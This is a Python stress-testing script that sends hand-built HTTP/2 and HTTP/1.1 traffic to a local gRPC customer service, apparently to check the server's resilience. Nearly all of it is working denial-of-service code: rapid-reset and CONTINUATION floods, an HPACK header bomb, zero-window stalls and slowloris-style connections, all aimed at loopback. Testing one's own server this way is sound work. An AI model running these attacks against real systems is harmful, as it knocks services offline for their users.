"""Does to a server what no client does, on purpose.

    abuse.py ATTACK GRPC_PORT HTTP_PORT KEY SECONDS SCALE

Frames are made with hyperframe and hpack, and sent as they are. Everything goes to loopback, from addresses of its own, and
ends after SECONDS. SCALE is how many connections or messages. The last line says what was done, as JSON.
"""

import json
import random
import resource
import socket
import struct
import sys
import time

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = "/purser.v1.CustomerService/GetCustomer"
CREATE = "/purser.v1.CustomerService/CreateCustomer"
LIST = "/purser.v1.CustomerService/ListCustomers"
CLAIM = "/purser.v1.ClaimService/SubmitClaim"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

attack, grpc_port, http_port, key, seconds, scale = sys.argv[1:]
grpc_port, http_port, seconds, scale = int(grpc_port), int(http_port), float(seconds), int(scale)
end = time.monotonic() + seconds
done = {"connections": 0, "refused": 0, "sent_bytes": 0, "closed": 0}


def on_time():
    return time.monotonic() < end


def tried():
    """How many connections were made or refused."""
    return done["connections"] + done["refused"]


class Closed(Exception):
    """The server has ended the connection."""


class Peer:
    """One connection."""

    def __init__(self, port, number=0):
        self.socket = socket.socket()
        self.socket.settimeout(0.5)
        # Up to 90 connections of one address: fewer than a peer may have.
        self.socket.bind((f"127.0.1.{1 + number // 90 % 250}", 0))
        self.stream = -1
        self.rest = b""
        try:
            self.socket.connect(("127.0.0.1", port))
        except OSError:
            done["refused"] += 1
            raise Closed
        done["connections"] += 1

    def send(self, octets):
        """Sends, for as long as there is time."""
        view = memoryview(octets)
        while view and on_time():
            try:
                sent = self.socket.send(view)
            except TimeoutError:
                continue
            except OSError:
                done["closed"] += 1
                raise Closed
            view = view[sent:]
            done["sent_bytes"] += sent

    def frames(self, wait=0.0):
        """The frames that have come: type, flags, stream, body."""
        self.socket.settimeout(wait or 0.0)
        try:
            while True:
                got = self.socket.recv(1 << 20)
                if not got:
                    done["closed"] += 1
                    raise Closed
                self.rest += got
                self.socket.settimeout(0.0)
        except (BlockingIOError, TimeoutError):
            pass
        except OSError:
            done["closed"] += 1
            raise Closed
        finally:
            self.socket.settimeout(0.5)
        found = []
        while len(self.rest) >= 9:
            length = int.from_bytes(self.rest[:3], "big")
            if len(self.rest) < 9 + length:
                break
            kind, flags = self.rest[3], self.rest[4]
            stream = int.from_bytes(self.rest[5:9], "big") & 0x7FFFFFFF
            found.append((kind, flags, stream, self.rest[9 : 9 + length]))
            self.rest = self.rest[9 + length :]
        return found

    def begin(self, **settings):
        frame = SettingsFrame(0)
        frame.settings = {getattr(SettingsFrame, name): value for name, value in settings.items()}
        self.send(PREFACE + frame.serialize())
        ack = SettingsFrame(0)
        ack.flags.add("ACK")
        self.send(ack.serialize())
        return self

    def next(self):
        self.stream += 2
        return self.stream


def block(path, with_key=True, more=()):
    """A header block that leaves no trace in the table, so that one serves all streams."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    ]
    if with_key:
        headers.append(("authorization", f"Bearer {key}"))
    return Encoder().encode([NeverIndexedHeaderTuple(*it) for it in headers])


def headers(stream, octets, last=False, whole=True):
    frame = HeadersFrame(stream, octets)
    if whole:
        frame.flags.add("END_HEADERS")
    if last:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def data(stream, octets, last=False):
    frame = DataFrame(stream, octets)
    if last:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def message(octets):
    return b"\0" + struct.pack(">I", len(octets)) + octets


def again(work, connections=4):
    """Does a piece of work on each of some connections in turn, with a new one for each that is closed."""
    peers = [None] * connections
    number = 0
    pieces = 0
    while on_time():
        for at in range(connections):
            try:
                if peers[at] is None:
                    peers[at] = Peer(grpc_port, number).begin()
                    number += 1
                work(peers[at])
                peers[at].frames()
                pieces += 1
            except Closed:
                peers[at] = None
                # As often as an attacker wishes is not what is measured.
                time.sleep(0.002)
    done["pieces"] = pieces


def rapid_reset():
    of = block(GET)

    def work(peer):
        burst = b""
        for _ in range(100):
            stream = peer.next()
            burst += headers(stream, of, last=True) + RstStreamFrame(stream, 8).serialize()
        peer.send(burst)

    again(work)


def continuation():
    of = block(GET)
    more = ContinuationFrame(1, Encoder().encode([NeverIndexedHeaderTuple("x", "y" * 8000)])).serialize()

    def work(peer):
        if peer.stream < 0:
            peer.send(headers(peer.next(), of, whole=False))
        peer.send(more * 8)

    again(work)


def empty_continuation():
    of = block(GET)
    more = ContinuationFrame(1, b"").serialize() * 1000

    def work(peer):
        if peer.stream < 0:
            peer.send(headers(peer.next(), of, whole=False))
        peer.send(more)

    again(work)


def empty_data():
    of = block(CREATE)

    def work(peer):
        if peer.stream < 0:
            peer.send(headers(peer.next(), of))
        peer.send(data(peer.stream, b"") * 1000)

    again(work)


def header_bomb():
    """One long header that is put into the table, and named thousands of times by one byte each."""
    encoder = Encoder()
    # Literal with incremental indexing, so that it is entry 62; each 0xbe is that entry.
    long = encoder.encode([("x-bomb", "a" * 3900)], huffman=False)

    def work(peer):
        stream = peer.next()
        octets = block(GET) + long + b"\xbe" * 10_000
        peer.send(headers(stream, octets, last=True))

    again(work)


def floods():
    ping = PingFrame(0, b"12345678").serialize() * 500
    settings = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * 500
    window = WindowUpdateFrame(0, 1).serialize() * 500
    priority = PriorityFrame(101, depends_on=1, stream_weight=3).serialize() * 500
    unknown = b"\0\0\x08\x77\0\0\0\0\0" + b"12345678"

    def work(peer):
        peer.send(ping + settings + priority + unknown * 500)
        peer.send(window)

    again(work)


def large_answers():
    """Calls with large answers, none of which may be sent."""
    # page_size = 100, whose number is 20.
    unread(block(LIST), message(b"\xa0\x01\x64"))


def window_zero():
    """Descriptions of the API, none of which may be sent."""
    symbol = b"purser.v1.CustomerService"
    unread(block(REFLECT, with_key=False), message(b"\x22" + bytes([len(symbol)]) + symbol), ends=False)


def unread(of, ask, ends=True):
    """One question on as many calls as there may be, and where those go on, more questions."""
    peers = []
    while on_time():
        if len(peers) < scale:
            try:
                peer = Peer(grpc_port, len(peers)).begin(INITIAL_WINDOW_SIZE=0)
                streams = [peer.next() for _ in range(100)]
                peer.send(b"".join(headers(it, of) + data(it, ask, last=ends) for it in streams))
                peers.append(peer)
            except Closed:
                time.sleep(0.01)
        else:
            time.sleep(0.05)
            for peer in list(peers):
                try:
                    for kind, flags, _, _ in peer.frames():
                        done["ended"] = done.get("ended", 0) + (kind == 3 or kind in (0, 1) and flags & 1)
                    if not ends:
                        peer.send(b"".join(data(n, ask * 10) for n in range(1, peer.stream, 4)))
                except Closed:
                    peers.remove(peer)


def allow_many():
    """As many connections at once as the system lets anybody have."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit[1], limit[1]))


def silent():
    """Connections that say nothing, or nothing more."""
    allow_many()
    peers = []
    # As many as that, however long it takes.
    for n in range(scale):
        try:
            peer = Peer(grpc_port, n)
            if n % 3 == 1:
                peer.send(PREFACE[:23])
            if n % 3 == 2:
                peer.begin()
            peers.append(peer)
        except Closed:
            pass
    while on_time():
        time.sleep(0.05)
    done["open"] = len(peers)


def huge_prefix():
    of = [block(CREATE), block(CLAIM, with_key=False), block(REFLECT, with_key=False)]

    def work(peer):
        stream = peer.next()
        peer.send(headers(stream, of[stream // 2 % 3]) + data(stream, b"\0\xff\xff\xff\xff" + b"x" * 1000))

    again(work)


def malformed():
    """Calls whose message is none, of methods with and without a key, and what became of them."""
    kinds = {it: block(it) for it in (GET, CREATE, LIST, "/purser.v1.No/Such")}
    kinds |= {it + " without a key": block(it, with_key=False) for it in (CLAIM, CHECK, GET, REFLECT)}
    kinds |= {f"{name} that is none": block(GET, more=[(name, "x")]) for name in ("grpc-timeout", "grpc-encoding")}
    done.update(messages=0, answered=0, unanswered=[])
    source = random.Random(1)
    while on_time() and done["messages"] < scale:
        try:
            peer = Peer(grpc_port).begin(INITIAL_WINDOW_SIZE=1 << 24)
            # Some messages are right after all, and have long answers.
            peer.send(WindowUpdateFrame(0, 1 << 30).serialize())
            for _ in range(20):
                if not batch(peer, source, kinds) or not on_time() or done["messages"] >= scale:
                    break
        except Closed:
            pass


def batch(peer, source, kinds):
    """As many calls as there may be at a time. Whether each was answered within six seconds."""
    under_way = {}
    burst = b""
    for _ in range(90):
        stream = peer.next()
        octets = source.randbytes(source.randrange(40))
        body = source.choice([octets, message(octets), message(octets)[:-1], b"\1" + message(octets)[1:]])
        kind = source.choice(list(kinds))
        burst += headers(stream, kinds[kind]) + data(stream, body, last=True)
        under_way[stream] = kind, body.hex()
    peer.send(burst)
    done["messages"] += len(under_way)
    # Longer than a call may take that says nothing of it.
    until = time.monotonic() + 6
    while under_way and on_time() and time.monotonic() < until:
        for kind, flags, stream, _ in peer.frames(0.2):
            if kind == 3 or (kind in (0, 1) and flags & 1):
                done["answered"] += under_way.pop(stream, None) is not None
    if on_time():
        done["unanswered"] += under_way.values()
    return not under_way


def held(path, with_key):
    """Messages that are nearly whole, of the largest size, on as many calls as there may be."""
    of = block(path, with_key, more=[("grpc-timeout", "60S")])
    body = b"\0" + struct.pack(">I", 1024 * 1024 - 1) + b"\x0a" * (1024 * 1024 - 100)
    peers, works = [], []
    for n in range(scale):
        try:
            peer = Peer(grpc_port, n).begin()
            peer.allowed, peer.of_stream, peer.at = 65_535, {}, {}
            burst = b""
            for _ in range(100):
                stream = peer.next()
                peer.of_stream[stream], peer.at[stream] = 65_535, 0
                burst += headers(stream, of)
            peer.send(burst)
            peers.append(peer)
        except Closed:
            pass
    while on_time() and peers:
        moved = False
        for peer in list(peers):
            try:
                for kind, flags, stream, octets in peer.frames():
                    if kind == 8:
                        more = int.from_bytes(octets, "big")
                        if stream == 0:
                            peer.allowed += more
                        elif stream in peer.of_stream:
                            peer.of_stream[stream] += more
                    elif kind == 4 and not flags & 1:
                        for at in range(0, len(octets), 6):
                            if octets[at : at + 2] == b"\0\x04":
                                window = int.from_bytes(octets[at + 2 : at + 6], "big")
                                for it in peer.of_stream:
                                    peer.of_stream[it] += window - 65_535
                    elif kind == 3 or (kind in (0, 1) and flags & 1):
                        if peer.of_stream.pop(stream, None) is not None:
                            done["ended"] = done.get("ended", 0) + 1
                for stream in list(peer.of_stream):
                    while on_time():
                        at = peer.at[stream]
                        most = min(16_384, peer.allowed, peer.of_stream.get(stream, 0), len(body) - at)
                        if most <= 0:
                            break
                        peer.send(data(stream, body[at : at + most]))
                        moved = True
                        peer.at[stream] += most
                        peer.allowed -= most
                        peer.of_stream[stream] -= most
            except Closed:
                peers.remove(peer)
        if not moved:
            time.sleep(0.02)


def watches():
    """As many streams as there may be, each of a kind that ends by itself only with its connection."""
    unread(block(WATCH, with_key=False), message(b""))


def http():
    """The other port: heads that never end, heads without end, bodies that do not come, and nothing at all."""
    allow_many()
    peers = []
    long = b"GET /livez HTTP/1.1\r\nhost: x\r\n" + b"x-long: " + b"a" * 100_000
    many = b"GET /livez HTTP/1.1\r\nhost: x\r\n" + b"a: b\r\n" * 20_000
    body = b"POST /v1/customers HTTP/1.1\r\nhost: x\r\nx-api-key: " + key.encode()
    body += b"\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n" + b"{" * 900_000
    unread = b"GET /openapi.json HTTP/1.1\r\nhost: x\r\n\r\n" * 100
    slow = b"GET /livez HTTP/1.1\r\nx-slow: "
    # As many as that, however long it takes.
    while on_time() or tried() < scale:
        for peer in [it for it in peers if it[1]]:
            try:
                peer[0].send(b"a")
            except Closed:
                peers.remove(peer)
        for _ in range(10):
            if len(peers) >= scale:
                break
            n = tried()
            try:
                peer = Peer(http_port, n)
            except Closed:
                continue
            peer.socket.settimeout(0.02)
            what = [b"", slow, long, many, body, unread][n % 6]
            peers.append((peer, what is slow))
            view, until = memoryview(what), time.monotonic() + 0.1
            try:
                while view and time.monotonic() < until:
                    sent = peer.socket.send(view)
                    done["sent_bytes"] += sent
                    view = view[sent:]
            except TimeoutError:
                pass
            except OSError:
                done["closed"] += 1
        time.sleep(0.01)
    done["open"] = len(peers)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "empty_continuation": empty_continuation,
    "empty_data": empty_data,
    "header_bomb": header_bomb,
    "floods": floods,
    "window_zero": window_zero,
    "large_answers": large_answers,
    "silent": silent,
    "huge_prefix": huge_prefix,
    "malformed": malformed,
    "held": lambda: held(CREATE, True),
    "held_without_a_key": lambda: held(REFLECT, False),
    "watches": watches,
    "http": http,
}
ATTACKS[attack]()
print(json.dumps(done))
